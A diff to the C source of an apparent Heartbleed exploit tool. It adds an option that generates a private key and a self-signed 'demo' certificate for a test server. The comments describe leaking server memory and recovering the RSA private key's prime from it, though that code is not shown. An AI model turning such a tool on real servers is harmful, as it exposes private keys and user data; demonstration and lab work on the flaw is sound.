@@ -4,6 +4,7 @@
  * what it finds to sign in the server's name.
  *
  * usage: heartbleed-attack ADDRESS PORT beat|peek [KEY]
+ *        heartbleed-attack --new-key KEY CERTIFICATE      makes them, for the server
  *
  * It knows what everyone knows: the server's certificate. A prime of the key gives itself away: it
  * divides the certificate's modulus. With KEY, the true key's file, it looks in what leaked for any
@@ -27,6 +28,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
 #define LINE_BYTES  4096
@@ -388,6 +390,44 @@ static unsigned long look_for_fragments(const char *path)
 	return total;
 }
 
+/* ---- a key for the server ---- */
+
+static X509 *certificate_of(EVP_PKEY *key)
+{
+	X509 *cert = X509_new();
+	X509_NAME *name = X509_get_subject_name(cert);
+
+	X509_set_version(cert, X509_VERSION_3);
+	ASN1_INTEGER_set(X509_get_serialNumber(cert), 1);
+	X509_gmtime_adj(X509_getm_notBefore(cert), -3600);
+	X509_gmtime_adj(X509_getm_notAfter(cert), 24 * 3600);
+	X509_NAME_add_entry_by_txt(name, "CN", MBSTRING_ASC, (const unsigned char *)"demo", -1, -1,
+				   0);
+	X509_set_issuer_name(cert, name);
+	X509_set_pubkey(cert, key);
+	if (X509_sign(cert, key, EVP_sha256()) == 0)
+		die("cannot sign the certificate");
+	return cert;
+}
+
+static int make_key(const char *key_path, const char *cert_path)
+{
+	EVP_PKEY *key = EVP_RSA_gen(2048);
+	FILE *to;
+
+	if (key == NULL)
+		die("cannot make a key");
+	umask(077);
+	to = fopen(key_path, "w");
+	if (to == NULL || PEM_write_PrivateKey(to, key, NULL, NULL, 0, NULL, NULL) != 1 ||
+	    fclose(to) != 0)
+		die(key_path);
+	to = fopen(cert_path, "w");
+	if (to == NULL || PEM_write_X509(to, certificate_of(key)) != 1 || fclose(to) != 0)
+		die(cert_path);
+	return 0;
+}
+
 /* ---- the attack ---- */
 
 int main(int argc, char **argv)
@@ -396,6 +436,8 @@ int main(int argc, char **argv)
 	BIGNUM *n = NULL, *e = NULL, *p;
 	unsigned long fragments = 0;
 
+	if (argc == 4 && strcmp(argv[1], "--new-key") == 0)
+		return make_key(argv[2], argv[3]);
 	if (argc < 4 || argc > 5 ||
 	    (strcmp(argv[3], "beat") != 0 && strcmp(argv[3], "peek") != 0)) {
 		fprintf(stderr, "usage: heartbleed-attack ADDRESS PORT beat|peek [KEY]\n");
